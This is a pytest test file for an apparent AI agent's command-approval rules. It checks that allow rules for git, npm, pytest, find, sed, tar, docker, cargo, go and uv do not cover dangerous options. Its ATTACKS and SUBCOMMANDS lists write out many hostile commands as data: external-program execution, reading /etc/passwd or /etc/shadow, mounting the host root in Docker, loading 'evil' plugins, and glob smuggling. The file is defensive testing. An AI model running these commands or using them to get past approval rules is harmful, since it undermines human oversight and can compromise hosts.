"""What a rule does not cover: options with which an allowed program runs another one, or writes elsewhere."""

import re
import shlex
from pathlib import Path

import pytest

from bullpen.team.approval_rules import allowing
from bullpen.team.limited_programs import PROGRAMS
from bullpen.turn_events import ApprovalAsked

ROOT = Path(__file__).parents[2]
ATTACKS = {
    "git": """
        git difftool -y -x 'touch x' HEAD
        git diff --output=/tmp/x --no-index a b
        git diff --outp=/tmp/x
        git diff --no-index --output /tmp/x a b
        git log --grep -- --output=/tmp/x
        git fetch -- ext::./x
        git -c core.pager=sh diff
        git -c core.fsmonitor=./x diff
        git -ccore.pager=sh diff
        git --exec-path=. diff
        git --git-dir=evil diff
        git --work-tree=/ diff
        git -C evil diff
        git --config-env=core.pager=X diff
        git -p diff
        git --paginate diff
        git diff --ext-diff
        git show --textconv
        git log --output=x
        git grep -Osh x
        git grep --open-files-in-pager=sh x
        git grep --open=sh x
        git clone -u ./x a b
        git clone -c core.fsmonitor=x a
        git clone --config core.fsmonitor=x a
        git clone --template=evil a
        git clone ext::sh a
        git fetch --upload-pack=./x .
        git fetch ext::./x
        git pull --upload-pack ./x .
        git ls-remote --upload-pack=./x .
        git push --receive-pack=./x .
        git push --exec=./x .
        git archive -o /tmp/x HEAD
        git archive --remote=. --exec=./x HEAD
        git format-patch -o/tmp HEAD
        git rebase -x ./x main
        git rebase --exec ./x main
        git rebase --exe=./x main
        git bisect run ./x
        git submodule foreach ./x
        git submodule add evil
        git worktree add /tmp/x
        git cat-file --filters HEAD:x
        git commit --gpg-sign
        git apply --unsafe-paths x
        git mergetool --tool=x
        git merge --strategy=x main
        git config --global core.pager ./x
        git config --global alias.diff '!./x'
        git config core.fsmonitor ./x
        git config --file=/tmp/x a.b c
        git config -f /tmp/x a.b c
        git config --edit
        git config set core.pager ./x
        git config --get a.b --global
        git send-email --smtp-server=./x HEAD
        git send-email --smtp-serv ./x HEAD
        git send-email --sendmail-cmd=./x HEAD
        git send-email --to-cmd=./x HEAD
        git send-email --cc-cmd ./x HEAD
        git send-email --header-cmd=./x HEAD
        git fast-export --export-marks=/tmp/x HEAD
        git fast-export --export-m=/tmp/x HEAD
        git fast-import --export-pack-edges=/tmp/x
        git apply --build-fake-ancestor=/tmp/x y
        git checkout-index --prefix=/tmp/ -a
        git read-tree --index-output=/tmp/x HEAD
        git interpret-trailers --in-place /tmp/x
        git column --command=./x
        git daemon --access-hook=./x
        git bugreport -o /tmp
        git diagnose --output-directory=/tmp
        git mailsplit -o/tmp x
        git index-pack -o /tmp/x y
        git instaweb --httpd=./x
        git instaweb -b ./x
        git help -w diff
        git filter-branch --parent-filter ./x
        git filter-branch --setup ./x
        git filter-branch -d /tmp/x
        git commit -S -m x
        git tag -s x
        git tag -u x y
        git push --signed origin
        git merge -s x main
        git pull -s x
        git difftool -t x
        git bisect view
        git submodule update --init
        git worktree move a b
        git remote add x y
        git remote -v set-url x y
        git hook run pre-commit
        git bundle create /tmp/x HEAD
        git lfs install
        git fetch my-helper::./x
        git diff /etc/passwd /dev/null
        git diff ../a ../b
        git diff a/../../b c
        git diff ~/a b
    """,
    "npm": """
        npm test --script-shell=./x
        npm test --script-sh ./x
        npm test --tag -- --script-shell=./x
        npm --script-shell ./x test
        npm run test --node-options=--require=./x
        npm --prefix evil test
        npm -C evil test
        npm test --prefix evil
        npm exec -c ./x
        npm exec --call=./x
        npm install --global x
        npm install -g x
        npm install --registry=evil x
        npm test --userconfig=evil
        npm test --globalconfig=evil
        npm pack --pack-destination=/tmp
        npm install --ignore-scripts=false x
        npm test -script-shell=./x
        npm test -script-shell ./x
        npm test --shell=./x
        npm test --node-opt=--require=./x
        npm test --cache=/tmp
        npm test --cafile=/tmp/x
        npm test --https-proxy=evil
        npm test --browser=./x
        npm test --foreground-scripts=./x
        npm test --usage=x
        npm config set script-shell ./x
        npm config edit
        npm pkg set scripts.test=./x
        npm audit fix
        npm cache clean
    """,
    "pytest": """
        pytest -p evil
        pytest -pevil
        pytest -qp evil
        pytest -c /tmp/evil.ini
        pytest -o python_files=x
        pytest --override-ini=x=y
        pytest --override x=y
        pytest --rootdir=/tmp
        pytest --confcutdir=/tmp
        pytest --pdbcls=evil:X
        pytest --junitxml=/tmp/x
        pytest --junit-xml /tmp/x
        pytest --basetemp=/home
        pytest --base=/home
        pytest --log-file=/tmp/x
        pytest --debug=/tmp/x
        pytest --cov-report=html:/tmp
        pytest --cov-config=/tmp/x
        pytest --pastebin=all
        pytest --pyargs evil
        pytest -- -pevil
        pytest -- -p evil
        pytest -k -pevil
        pytest @args
        pytest -k @args
        pytest -- @args
        pytest -W error::evil.X
        pytest -Werror::evil.X
        pytest -qW error::evil.X
        pytest --pythonwarnings=error::evil.X
        pytest --tx=popen//python=./x
        pytest --tx popen//python=./x
        pytest --px=popen//python=./x
        pytest --rsyncdir=/
        pytest --benchmark-json=/tmp/x
        pytest --benchmark-save=x
        pytest --benchmark-storage=file:///tmp
        pytest --benchmark-histogram=/tmp/x
        pytest --resultlog=/tmp/x
        pytest --result-log=/tmp/x
        pytest --ds=evil
        pytest --nunit-xml=/tmp/x
        pytest --alluredir=/tmp
        pytest --self-contained-html
        pytest --snapshot-update
        pytest --import-mode=append
        pytest --cache-clear
        pytest --pdb
        pytest --trace
        pytest --log-file-mode=w
        pytest --doctest-glob=x
        pytest --ds evil
        pytest --docker-compose=evil
        pytest --splits=1 --store-durations
        pytest -Pevil
    """,
    "find": """
        find . -exec ./x {} +
        find . -execdir ./x
        find . -ok ./x
        find . -okdir ./x
        find . -delete
        find . -fprint /tmp/x
        find . -fprintf /tmp/x y
        find . -fprint0 /tmp/x
        find . -fls /tmp/x
        find -files0-from x -delete
        find . -name x -o -exec ./x +
        find . --exec ./x
    """,
    "rg": """
        rg --pre=./x y
        rg --pre ./x y
        rg --hostname-bin=./x y
        rg -z y
        rg -iz y
        rg --search-zip y
        rg --pre-glob x --pre=./x y
        rg -e -- --pre=./x y
        rg -lz y
        rg --search-z y
    """,
    "sed": """
        sed -i s/a/b/ x
        sed -ni p x
        sed -i.bak s/a/b/ x
        sed --in-place=y s/a/b/ x
        sed --in-pl s/a/b/ x
        sed -f x y
        sed --file=x y
        sed '1e touch x' y
        sed e y
        sed 's/a/touch x/e' y
        sed 's/a/b/w /tmp/x' y
        sed -n 'w /tmp/x' y
        sed -n '/a/w /tmp/x' y
        sed -e p -e 'w /tmp/x' y
        sed -ew/tmp/x y
        sed --expression='w /tmp/x' y
        sed 'r /etc/passwd' y
        sed '1!e x' y
        sed -- 'w /tmp/x' y
        sed -n -- 'w /tmp/x' y
        sed -l 1p 'w /tmp/x' y
        sed --line-length 1p 'w /tmp/x' y
        sed -e p -ne 'w /tmp/x' y
        sed -e p -Ee 'w /tmp/x' y
        sed -e p --expr 'w /tmp/x' y
        sed -e p --expr='w /tmp/x' y
        sed -I .bak s/a/b/ x
        sed -nf x y
        sed -a 'w /tmp/x' y
    """,
    "tar": """
        tar cf x y --checkpoint=1 --checkpoint-action=exec=./x
        tar cf x y --checkpoint-a=exec=./x
        tar xf x --to-command=./x
        tar xf x --use-compress-program=./x
        tar xIf ./x y
        tar -I ./x -xf y
        tar --use-comp=./x -xf y
        tar xf x -C /
        tar xf x --directory=/
        tar xPf x
        tar xf x --absolute-names
        tar xf x -F ./x
        tar cf x -T y
        tar cf x --files-from=y
        tar cf h:x y --rsh-command=./x
        tar xf x --info-script=./x
        tar cf x y --remove-files
        tar xf host:y
        tar -xf host:y
        tar -xfhost:y
        tar --file=user@host:y -x
        tar tf host:y
        tar cf /tmp/x y
        tar -cf /tmp/x y
        tar --create --file=/tmp/x y
        tar rf /tmp/x y
        tar uf /tmp/x y
        tar Af /tmp/x y
        tar --delete -f /tmp/x y
        tar --append -f /tmp/x y
        tar xf x --rsh-comm=./x
        tar xf x --rmt-command=./x
        tar xf x --xform=s/a/b/
        tar xf x --overwrite
        tar xf x --recursive-unlink
        tar xf x --unlink-first
        tar xf x -U
        tar xMf x -F ./x
        tar tf x --index-file=/tmp/x
        tar tvf x --volno-file=/tmp/x
        tar tf x -g /tmp/x
        tar tf x --keep-directory-symlink
        tar xf x -T y
        tar xf -I ./x
    """,
    "make": """
        make test -f evil
        make test -fevil
        make test --file=evil
        make test --makefile evil
        make test -C /tmp
        make test --directory=/tmp
        make test --eval=x
        make test --ev x
        make test SHELL=./x
        make test CC=./x
        make test deploy
        make deploy test
        make -e test
        make -ke test
        make test -t
        make test --touch
        make test -o x
        make test -W x
        make test --what-if=x
        make test --jobserver-auth=3,4
        make test -I /tmp
        make test --include-dir=/tmp
        make test -E x
        make test .SHELLFLAGS=x
        make test MAKEFLAGS=x
        make test -kf evil
        make test -- SHELL=./x
    """,
    "docker": """
        docker run -v /:/x y
        docker run -v/:/x y
        docker run --volume=/:/x y
        docker run --vol /:/x y
        docker run --mount=type=bind,src=/,dst=/x y
        docker run --privileged y
        docker run --pid=host y
        docker run --device=/dev/sda y
        docker run --cap-add=ALL y
        docker run --security-opt=x y
        docker run --network host y
        docker run --entrypoint=sh y
        docker -H tcp://evil ps
        docker --host=evil ps
        docker --config evil ps
        docker --context evil ps
        docker compose -f evil up
        docker build -o /tmp .
        docker build --output=/tmp .
        docker build -f evil .
        docker build --secret id=x,src=/etc/shadow .
        docker run --rm -v /:/x y
        docker run --name x -v /:/x y
        docker run -ie X -v /:/x y
        docker run -itv /:/x y
        docker run --device-cgroup-rule=x y
        docker run --cgroupns=host y
        docker run --volume-driver=x y
        docker run --annotation=x y
        docker run --env-file=/etc/shadow y
        docker run -p 80:80 y
        docker run --publish=80:80 y
        docker run -P y
        docker run --restart=always y
        docker run --sysctl=x y
        docker run --group-add=root y
        docker run --tmpfs=/x y
        docker run --detach-keys=x y
        docker run --gpus=all y
        docker compose --file=evil up
        docker compose run x
        docker compose exec x ./x
        docker compose up
        docker compose config --output=/tmp/x
        docker compose --env-file=x ps
        docker container exec x ./x
        docker container cp x:/y /tmp
        docker image save -o /tmp/x y
        docker volume create x
        docker buildx bake
        docker buildx build --output=/tmp .
        docker context use evil
        docker build --iidfile=/tmp/x .
        docker build --ssh=default .
        docker build --cache-to=type=local,dest=/tmp .
        docker build --build-context=x=/ .
        docker build --allow=security.insecure .
    """,
    "cargo": """
        cargo test --config evil
        cargo --config evil test
        cargo test --conf evil
        cargo test -Zunstable
        cargo test --target-dir=/tmp
        cargo test --manifest-path /tmp/x
        cargo -C /tmp test
        cargo +evil test
        cargo install --git evil
        cargo install --path evil
        cargo install --root /tmp x
        cargo test --target ./evil.json
        cargo build --target=evil.json
        cargo test --timings
        cargo build --artifact-dir=/tmp
        cargo build --out-dir /tmp
        cargo test --lockfile-path=/tmp/Cargo.lock
        cargo test -- --logfile=/tmp/x
        cargo test -- --logfile /tmp/x
        cargo clippy --fix
        cargo clippy -- -Clinker=./x
        cargo clippy -- --emit=link=/tmp/x
        cargo clippy -- --extern=x=/tmp/x.so
        cargo clippy -- @args
        cargo fmt -- --config-path=/tmp
        cargo fmt -- --print-config default /tmp/x
        cargo fmt -- --emit files
        cargo doc --open
        cargo bench -- --save-baseline x
        cargo run --manifest-path=/tmp/x
        cargo update --config=evil
    """,
    "go": """
        go test -exec ./x ./...
        go test --exec=./x ./...
        go test -toolexec=./x ./...
        go test -o /tmp/x
        go test -c
        go test -coverprofile=/tmp/x
        go test -test.cpuprofile=/tmp/x
        go test --test.memprofile /tmp/x
        go test -outputdir /tmp
        go test -overlay=x
        go test -modfile=x
        go test -ldflags=-extld=./x
        go vet -vettool=./x
        go -C /tmp test
        go build -o /tmp/x
        go test -debug-trace=/tmp/x
        go test -debug-actiongraph=/tmp/x
        go test -debug-runtime-trace=/tmp/x
        go build -debug-trace /tmp/x
        go test -test.trace=/tmp/x
        go test -args -test.cpuprofile=/tmp/x
        go test -- -test.cpuprofile=/tmp/x
        go test -test.outputdir=/tmp
        go test -test.gocoverdir=/tmp
        go test -fuzz=x
        go test -pgo=/tmp/x
        go test -installsuffix=x
        go test -buildmode=plugin
        go test -gcflags=-o=/tmp/x
        go test -asmflags=x
        go test -linkshared
        go test -compiler=./x
        go test -modcacherw
        go vet -fix
        go env -w CC=./x
        go env --w CC=./x
        go env -u CC
        go mod edit -replace=a=/tmp
        go mod vendor -o /tmp
        go mod init x
        go list -toolexec=./x
    """,
    "uv": """
        uv run --with evil pytest
        uv run --project evil pytest
        uv run --directory evil pytest
        uv --directory evil run pytest
        uv run --env-file x pytest
        uv run --script x
        uv run -s x
        uv run -m x
        uv run --python ./x pytest
        uv run -p ./x pytest
        uv pip install --index-url evil x
        uv pip install --target=/tmp x
        uv pip compile -o /tmp/x y
        uv tool run --from evil x
        uv run pytest -p evil
        uv run pytest --basetemp=/home
        uv run -w evil pytest
        uv run --extra x --with evil pytest
        uv run -qw evil pytest
        uv run --extra --with evil pytest
        uv run --with-editable evil pytest
        uv run --with-requirements evil pytest
        uv run --isolated pytest
        uv run --gui-script x
        uv run --managed-python pytest
        uv run --config-file=x pytest
        uv run --cache-dir=/tmp pytest
        uv run --find-links=/tmp pytest
        uv run -f /tmp pytest
        uv run --active pytest
        uv run --extra dev pytest -p evil
        uv run -- pytest -p evil
        uv run pytest -W error::evil.X
        uv run pytest @args
        uv run .venv/bin/pytest -p evil
        uv run py.test -p evil
        uv sync --index=evil
        uv sync --python=./x
        uv sync --config-setting=x=y
        uv export --output-file=/tmp/x
        uv export -o /tmp/x
        uv lock --build-constraint=x
        uv lock --exclude-newer=x
        uv pip uninstall x
        uv tool install evil
        uv tool run evil
        uv cache clean
        uv python install x
        uv self update
    """,
}
SUBCOMMANDS = {
    "git": """
        git clone x
        git init --bare x
        git difftool
        git mergetool
        git send-email HEAD
        git fast-export HEAD
        git filter-branch HEAD
        git daemon
        git instaweb
        git gui
        git svn fetch
        git p4 sync
        git maintenance start
        git credential fill
        git merge-index ./x -a
        git merge-file a b c
        git pack-objects /tmp/x
        git unpack-objects
        git mailinfo /tmp/a /tmp/b
        git archive HEAD
        git replace a b
        git update-ref a b
        git for-each-repo --config=x ./y
        git web--browse x
        git shell -c x
        git upload-pack .
        git http-backend
        git never-heard-of
    """,
    "npm": """
        npm exec evil
        npm x evil
        npm init evil
        npm create evil
        npm install evil
        npm i evil
        npm ci
        npm add evil
        npm set script-shell ./x
        npm explore x -- ./y
        npm edit x
        npm link ../x
        npm rebuild
        npm publish
        npm help x
        npm docs x
        npm version patch
    """,
    "docker": """
        docker exec x ./y
        docker cp x:/y /tmp
        docker save x
        docker load
        docker import x
        docker plugin install x
        docker context ls
        docker login
        docker push x
        docker swarm init
        docker commit x
        docker never-heard-of
    """,
    "cargo": """
        cargo install x
        cargo publish
        cargo rustc
        cargo rustdoc
        cargo fix
        cargo vendor /tmp
        cargo new /tmp/x
        cargo package
        cargo login
        cargo never-heard-of
    """,
    "go": """
        go run evil.example/x
        go generate ./...
        go install x
        go get x
        go tool x
        go fix ./...
        go clean -cache
        go work init
        go telemetry on
    """,
    "uv": """
        uv run ./x
        uv run python -c x
        uv init x
        uv add evil
        uv publish
        uv build
        uv venv /tmp/x
        uv auth login x
    """,
}
"""Subcommands that run or write by themselves: a rule that does not name one does not cover it."""
REPLACED = """
    {} *
    {} ./*
    {} ?x
    {} [-]px
    {} x*
    {} -*
    {} --color=*
    {} 'a b' *
    {} ''*
    {} ~
    {} ~/x
    {} ~root
    {} =x
    {} x{{a,b}}
"""
"""What a shell puts names of files into."""
FINE = {
    "git": (
        "git diff --stat HEAD | git --no-pager log -3 | git push -u origin main | git diff -- x.py | git status -sb | "
        "git diff HEAD~1..main -- src/x.py | git show HEAD:src/x.py | git commit -am 'x y' | "
        "git log --oneline -S word | git config --get user.name | git remote -v | git stash | "
        "git worktree list | git diff '*.py'"
    ),
    "npm": "npm test | npm run test:unit | npm test -- --watch=false -c | npm --silent test",
    "pytest": (
        "pytest -x -q | pytest --cov=src --color=yes tests/test_x.py::test_y | pytest -k 'a or b' | pytest --co | "
        "pytest tests/x.py -k name -q | pytest -xvs --tb=short --maxfail 1 | pytest -n auto -rA | pytest -n0 --lf | "
        "pytest 'tests/test_x.py::test_y[1-a]' | pytest -vv -m 'not slow' --durations=5"
    ),
    "find": "find . -name '*.py' -not -path x | find src -type f -newer y -print",
    "rg": "rg -n --hidden word src | rg -l -i word",
    "sed": "sed -n 1,20p x | sed -n '/a/,/b/p' x | sed s/a/b/g x | sed -E s,a,b, x",
    "tar": "tar tf x | tar -tvf x | tar xzf x",
    "make": "make test | make -j4 test | make -k test",
    "docker": (
        "docker ps -a | docker logs -f x | docker --debug images | docker compose ps | "
        "docker run --rm -it --name x y ls -la"
    ),
    "cargo": "cargo test --release name | cargo -q test | cargo test -- --nocapture",
    "go": "go test -count=1 -run TestX -cover ./... | go vet ./... | go test -v --race ./...",
    "uv": "uv run pytest -xs | uv -q run pytest | uv run --extra dev pytest -k x | uv run --frozen ruff check --fix",
}


def command(text: str) -> ApprovalAsked:
    return ApprovalAsked(id="1", kind="command", tool="Bash", command=text)


def lines(text: str) -> list[str]:
    return [line.strip() for line in text.splitlines() if line.strip()]


def test_every_program_is_attacked() -> None:
    assert ATTACKS.keys() == PROGRAMS.keys() == FINE.keys()


@pytest.mark.parametrize("program", ATTACKS)
def test_no_rule_covers_an_option_that_it_does_not_name(program: str) -> None:
    rules = [f"{program}{end}" for end in ("", " *", " test", " test*", " run*", " diff", " diff*", " run pytest")]
    for text in lines(ATTACKS[program]):
        # A rule that names the subcommand, too.
        first, second, *_ = text.split()
        named = [f"{first} {second}"] if PROGRAMS[program].subcommands and second.isalpha() else []
        covering = [rule for rule in (*rules, *named) if allowing([rule], command(text))]
        assert covering == [], text
        assert [rule for rule in rules if allowing([rule], command(f"bash -lc {shlex.quote(text)}"))] == [], text


@pytest.mark.parametrize("program", SUBCOMMANDS)
def test_a_rule_that_names_no_subcommand_covers_only_the_usual_ones(program: str) -> None:
    for text in lines(SUBCOMMANDS[program]):
        assert [rule for rule in (program, f"{program} *") if allowing([rule], command(text))] == [], text
    assert allowing(["git clone"], command("git clone x"))
    assert allowing(["uv"], command("uv sync --frozen"))


@pytest.mark.parametrize("rule", ["pytest", "git diff", "ls", "ruff check"])
def test_no_rule_covers_what_a_shell_puts_names_of_files_into(rule: str) -> None:
    for text in lines(REPLACED):
        assert not allowing([rule], command(text.format(rule))), text
        assert not allowing([rule], command(f"bash -lc {shlex.quote(text.format(rule))}")), text


@pytest.mark.parametrize(
    "start", ["/usr/bin/{}", ".venv/bin/{}", "python -m {}", "timeout 9 {}", "poetry run {}", "uv run --group x {}"]
)
def test_a_program_is_known_by_any_name_that_a_rule_gives_it(start: str) -> None:
    for name in ("pytest", "py.test"):
        rule = start.format(name)
        assert allowing([rule], command(f"{rule} -q tests"))
        assert not allowing([rule], command(f"{rule} -p evil"))
    assert not allowing([start.format("gtar")], command(f"{start.format('gtar')} -I./x -xf y"))


@pytest.mark.parametrize("program", FINE)
def test_what_people_do_every_day_is_covered(program: str) -> None:
    rule = {"make": "make test", "uv": "uv run"}.get(program, program)
    for text in FINE[program].split(" | "):
        assert allowing([rule], command(text)), text


def test_an_option_that_a_rule_names_is_covered() -> None:
    assert allowing(["git rebase -x"], command("git rebase -x pytest main"))
    assert allowing(["pytest -p xdist"], command("pytest -p xdist tests"))
    assert allowing(["docker run -v x:y"], command("docker run -v x:y z"))
    assert not allowing(["docker run -v x:y"], command("docker run -v x:y -v /:/z z"))
    assert allowing(["git config user.name"], command("git config user.name x"))
    assert not allowing(["git config user.name"], command("git config user.name --global x"))
    assert not allowing(["pytest -p xdist"], command("pytest -p xdist -p evil"))


def documented_rules() -> list[str]:
    texts = [path.read_text(encoding="utf-8") for path in [*(ROOT / "docs").glob("*.md"), *ROOT.glob("*.md")]]
    lists = [found for text in texts for found in re.findall(r"\ballow\s*=\s*\[(.*?)\]", text)]
    quoted = [rule for found in lists for rule in re.findall(r'"([^"]+)"', found)]
    approved = [found for text in texts for found in re.findall(r'--approve "([^"]+)"', text)]
    return sorted({*quoted, *(rule.strip() for found in approved for rule in found.split(","))})


def test_every_rule_in_the_docs_is_attacked() -> None:
    rules = documented_rules()

    assert {"pytest", "git diff*"} <= set(rules)
    for rule in rules:
        for text in (text for attacks in (*ATTACKS.values(), *SUBCOMMANDS.values()) for text in lines(attacks)):
            assert not allowing([rule], command(text)), (rule, text)
